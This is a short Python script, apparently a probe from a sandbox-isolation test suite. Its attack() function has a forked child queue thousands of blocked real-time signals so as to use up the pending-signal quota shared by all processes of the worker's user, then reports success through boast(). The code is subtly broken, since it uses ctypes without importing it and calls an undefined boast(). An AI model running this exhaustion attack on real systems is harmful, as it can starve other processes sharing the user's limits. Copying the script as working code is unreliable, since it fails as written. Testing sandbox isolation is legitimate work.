"""
tries = "Uses up the signals that may wait for all processes of the worker's user"
expect = "A sandbox may have few of them, counted for itself"
proof = "outside"
quiet = true
"""

import os, signal

MANY, WON, LOST = 5_000, 7, 0


def attack(targets):
    child = os.fork()
    if child == 0:  # with one thread, so that no other takes the signals
        libc = ctypes.CDLL(None)
        signal.pthread_sigmask(signal.SIG_BLOCK, [signal.SIGRTMIN])
        waiting = 0
        while waiting < MANY and not libc.sigqueue(os.getpid(), signal.SIGRTMIN, 0):
            waiting += 1
        os._exit(WON if waiting == MANY else LOST)
    status = os.waitpid(child, 0)[1]
    return boast(targets) if os.WEXITSTATUS(status) == WON else ""
